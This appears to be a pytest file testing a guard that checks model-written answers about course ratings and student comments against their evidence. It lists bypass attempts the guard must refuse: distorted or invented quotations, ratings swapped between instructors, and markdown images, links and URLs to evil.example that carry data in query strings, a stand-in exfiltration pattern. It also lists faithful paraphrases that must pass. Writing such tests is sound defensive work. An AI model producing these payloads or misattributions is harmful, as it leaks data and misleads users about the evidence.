"""The guard-bypass corpus: ways past the answer guard, each refused, and faithful paraphrases of
the same evidence, each accepted."""

from __future__ import annotations

import pytest

from rag.answer.answers import Evidence, Fact, Quote, Theme
from rag.answer.guard import check_answer
from rag.answer.number_words import as_digits, shares
from rag.search.hybrid import Citation

NEGATIVE = "The lectures were not helpful at all, and the homework was never graded on time."
HEAVY = "The homework took 20 hours a week, far too much for a 4-credit course."


def citation(number: int, instructors: list[str] | None = None) -> Citation:
    return Citation(
        report_id=1,
        comment_id=100 + number,
        course_code="CS5800",
        course_title="Algorithms",
        term="Fall 2023",
        section="01",
        instructors=instructors or ["Jane Doe", "John Roe"],
        prompt="What could the instructor improve?",
        comment_number=number,
    )


def evidence() -> Evidence:
    """Two instructors' ratings, two themes and two comments: what every case is checked on."""
    label = "{}, CS5800 Fall 2023 overall rating (course mean)"
    return Evidence(
        route="mixed",
        plan={"kind": "top_instructors"},
        facts=[
            Fact(label=label.format("Jane Doe"), value=4.71, n=31, source="question_scores"),
            Fact(label=label.format("John Roe"), value=4.20, n=12, source="question_scores"),
        ],
        themes=[
            Theme(name="workload", count=14, of=83, tone="negative"),
            Theme(name="lectures", count=9, of=83, tone="mixed"),
        ],
        quotes=[
            Quote(text=NEGATIVE, citation=citation(3)),
            Quote(text=HEAVY, citation=citation(5), theme="workload"),
        ],
        searched="ratings and comments for CS5800 in Fall 2023",
    )


# (case, answer, what the violation says): every one must be refused, for that reason.
BYPASSES = [
    # elisions and edits stitching words of a comment that says the opposite
    ("ellipsis char", "A student wrote “The lectures were … helpful” [#3].", "elision"),
    ("three dots", 'A student wrote "The lectures were ... helpful" [#3].', "elision"),
    ("spaced dots", "A student wrote “The lectures were . . . helpful”.", "elision"),
    ("bracketed dots", "A student wrote “The lectures were [...] helpful”.", "elision"),
    ("bracketed ellipsis", "A student wrote “The lectures were […] helpful”.", "elision"),
    ("edited mark", "A student wrote “The lectures were [edited] helpful”.", "elision"),
    ("inserted word", "A student wrote “the lectures were [very] helpful at all”.", "elision"),
    ("curly single + elision", "A student wrote ‘The lectures were … helpful’.", "elision"),
    ("single + elision", "A student wrote 'The lectures were ... helpful'.", "elision"),
    ("guillemets + elision", "A student wrote «The lectures were … helpful».", "elision"),
    ("ellipsis + cite", "“the homework was … graded on time” [CS5800-01 Fall 2023, #3]", "elision"),
    # quotations that are not a comment's words
    ("single quotes", "A student wrote 'the professor was brilliant and kind'.", "not in the"),
    ("curly single quotes", "A student wrote ‘the professor was brilliant and kind’.", "not in"),
    ("inside a word", "A student wrote “work was never graded on time”.", "not in the"),
    ("word cut short", "A student said “lectures were not help”.", "not in the"),
    ("short invented", "Students called the course “a total joke”.", "not in the"),
    ("two comments joined", "“graded on time. The homework took 20 hours”", "not in the"),
    ("strikethrough", "A student wrote “The lectures were ~~not~~ helpful at all”.", "edit"),
    (
        "quote over a line break",
        'A student wrote "the professor was\nbrilliant and kind".',
        "not in",
    ),
    ("low-high quotes", "A student wrote „the professor was brilliant and kind“.", "not in the"),
    ("corner brackets", "A student wrote 「the professor was brilliant and kind」.", "not in the"),
    (
        "entity quotes",
        "A student wrote &ldquo;the professor was brilliant and kind&rdquo;.",
        "not in",
    ),
    (
        "blockquote",
        "> The professor was brilliant and kind. [CS5800-01 Fall 2023, #3]",
        "blockquote",
    ),
    # numbers in words and percentages
    ("decimal in words", "Jane Doe scored four point nine.", "4.9"),
    ("out of five", "Jane Doe's rating was five out of five.", "five out of five"),
    ("count in words", "About forty students answered.", "40"),
    ("hyphenated words", "Jane Doe: 4.71 from thirty-five responses.", "35"),
    ("hundred and", "One hundred and twelve comments mention workload.", "112"),
    ("percent in words", "Thirty percent of comments mention workload.", "30%"),
    ("per cent", "Twenty-five per cent of comments mention workload.", "25%"),
    ("percent digits", "30 per cent of comments mention workload.", "30%"),
    ("percent sign", "25% of comments mention workload.", "25%"),
    ("a third", "A third of the comments mention workload.", "33%"),
    ("half of", "Half of the comments mention workload.", "50%"),
    ("one in four", "One in four comments mentions workload.", "25%"),
    # values swapped between two people
    ("swapped, bare", "John Roe 4.71", "not John Roe's"),
    ("swapped, both", "John Roe led with 4.71; Jane Doe had 4.20.", "not John Roe's"),
    ("swapped, one clause", "Jane Doe had 4.20 and John Roe had 4.71.", "not Jane Doe's"),
    ("swapped, after", "4.20 for Jane Doe and 4.71 for John Roe.", "not Jane Doe's"),
    ("swapped, surname", "Professor Roe scored 4.71.", "not John Roe's"),
    ("swapped, rounded", "Roe's mean of 4.7 beat everyone.", "not John Roe's"),
    ("swapped, in words", "John Roe: four point seven one.", "not John Roe's"),
    ("swapped N", "John Roe's rating rests on 31 responses.", "not John Roe's"),
    ("swapped, next clause", "John Roe. 4.71.", "not John Roe's"),
    ("swapped, capitals", "JOHN ROE: 4.71", "not John Roe's"),
    ("swapped, entities", "J&#111;hn R&#111;e scored 4.71.", "not John Roe's"),
    ("swapped, zero width", "J\u200bohn R\u200boe scored 4.71.", "not John Roe's"),
    ("swapped, emphasis", "John R*o*e scored 4.71.", "not John Roe's"),
    ("fullwidth digits", "Jane Doe scored ４.９.", "4.9"),
    ("escaped decimal", "Jane Doe scored 4\\.9.", "4.9"),
    ("code span", "Jane Doe scored `4.9`.", "4.9"),
    # links, images, HTML and URLs
    ("markdown link", "Jane Doe leads ([details](https://evil.example/x?d=4.71)).", "link"),
    ("image", "![chart](https://evil.example/p.png?who=Jane+Doe)", "image"),
    ("reference image", "![x][1]\n\n[1]: https://evil.example/p.png", "image"),
    ("reference link", "[Jane Doe][r] leads.\n\n[r]: https://evil.example", "link"),
    ("img tag", "Jane Doe: 4.71 <img src=https://evil.example/p.png>", "HTML"),
    ("anchor tag", "<a href='https://evil.example'>Jane Doe</a> leads.", "HTML"),
    ("html comment", "Jane Doe leads. <!-- 4.71 -->", "HTML"),
    ("autolink", "Jane Doe leads, see <https://evil.example/x>.", "link"),
    ("bare URL", "See https://evil.example/leak?d=Jane for more.", "URL"),
    ("www", "See www.evil.example for more.", "URL"),
    ("e-mail", "Write to leak@evil.example for the rest.", "URL"),
]


@pytest.mark.parametrize(("case", "text", "reason"), BYPASSES, ids=[c for c, _, _ in BYPASSES])
def test_every_bypass_is_refused(case: str, text: str, reason: str) -> None:
    violations = check_answer(text, evidence())
    assert any(reason in v for v in violations), (case, violations)


def test_the_corpus_is_large_enough() -> None:
    assert len(BYPASSES) >= 30 and len(FAITHFUL) >= 25


# Faithful answers in the words a model uses: none may be refused.
FAITHFUL = [
    "Jane Doe led with 4.71 (31 responses); John Roe had 4.20 (12 responses).",
    "Jane Doe had 4.71 and John Roe had 4.20.",
    "4.71 for Jane Doe and 4.20 for John Roe.",
    "John Roe (4.20, N=12) trailed Jane Doe (4.71, N=31).",
    "Doe's mean of 4.7 is higher than Roe's 4.2.",
    "With 4.71, Jane Doe led John Roe (4.20).",
    "Jane Doe led with 4.71, ahead of 4.2 for John Roe.",
    "Jane Doe scored four point seven one from thirty-one responses.",
    "**Jane Doe**: 4.71\n**John Roe**: 4.20",
    "- Jane Doe — 4.71 (31 responses)\n- John Roe — 4.20 (12 responses; few, read with care)",
    "Jane Doe and John Roe taught CS5800 in Fall 2023; Jane Doe's rating was 4.71.",
    "Roughly 17% of comments mention workload (14 of 83).",
    "Fourteen of eighty-three comments mention workload.",
    "About a sixth of the comments mention workload.",
    "One student wrote “the homework was never graded on time” [CS5800-01 Fall 2023, #3].",
    "One student found “The lectures were not helpful at all”.",
    "A student wrote 'the homework was never graded on time' [CS5800-01 Fall 2023, #3].",
    "A student wrote ‘the homework was never graded on time’.",
    "Students say the homework was “never graded on time”.",
    "“The lectures were not helpful at all…” [CS5800-01 Fall 2023, #3]",
    "“… far too much for a 4 credit course” [CS5800-01 Fall 2023, #5]",
    "One student: «The homework took 20 hours a week — far too much»",
    "Students’ comments on the “workload” theme are negative; John Roe's students didn't agree.",
    "In answer to “What could the instructor improve?”, one student wrote about grading.",
    "The comments say the *homework* was “never graded on time” [#3].",
    "> The lectures were not helpful at all [CS5800-01 Fall 2023, #3]",
    "> “The homework took 20 hours a week.” [CS5800-01 Fall 2023, #5]",
    'A student wrote "the homework was never graded\non time".',
    "Jane Doe led.\n\nHer mean was 4.71 from 31 responses.",
    "Jane Doe and John Roe were compared. The higher mean was 4.71.",
    "JANE DOE: 4.71; John Roe: 4.20",
    "Jane Doe's 4.71 rests on thirty-one responses, while John Roe's 4.20 rests on twelve.",
    "Jane Doe's rating (4.71, N=31) tops John Roe's (4.20, N=12).",
    "The highest was 4.71 for Jane Doe, then 4.20 for John Roe.",
]


@pytest.mark.parametrize("text", FAITHFUL)
def test_faithful_paraphrases_pass(text: str) -> None:
    assert check_answer(text, evidence()) == []


def test_a_co_teacher_named_only_in_a_citation_cannot_take_a_number() -> None:
    one = evidence().model_copy(update={"facts": evidence().facts[:1]})
    one.quotes[0].citation.instructors = ["Jane Doe", "Mary Major"]
    assert check_answer("Jane Doe: 4.71.", one) == []
    assert any("Mary Major" in v for v in check_answer("Mary Major: 4.71.", one))


def test_a_trend_keeps_each_value_with_its_term() -> None:
    trend = Evidence(
        route="quantitative",
        plan={"kind": "trend"},
        facts=[
            Fact(label="Fall 2021", value=4.2, n=40, source="s"),
            Fact(label="Fall 2022", value=4.4, n=38, source="s"),
        ],
    )
    assert check_answer("It rose from 4.2 in Fall 2021 to 4.4 in Fall 2022.", trend) == []
    assert check_answer("In Fall 2021 it was 4.4.", trend) != []


@pytest.mark.parametrize(
    ("words", "digits"),
    [
        ("four point seven", "4.7"),
        ("four point seven one", "4.71"),
        ("thirty-one responses", "31 responses"),
        ("one hundred and five", "105"),
        ("two thousand and twenty three", "2023"),
        ("twelve and four", "12 and 4"),
        ("one student wrote", "one student wrote"),
        ("Twenty Percent", "20 Percent"),
        ("the point is four", "the point is 4"),
    ],
)
def test_numbers_in_words_read_as_digits(words: str, digits: str) -> None:
    assert as_digits(words) == digits


def test_fractions_in_words_are_shares() -> None:
    found = shares("a third, two thirds, half of them, one in five")
    assert [round(s.percent) for s in found] == [33, 67, 50, 20]
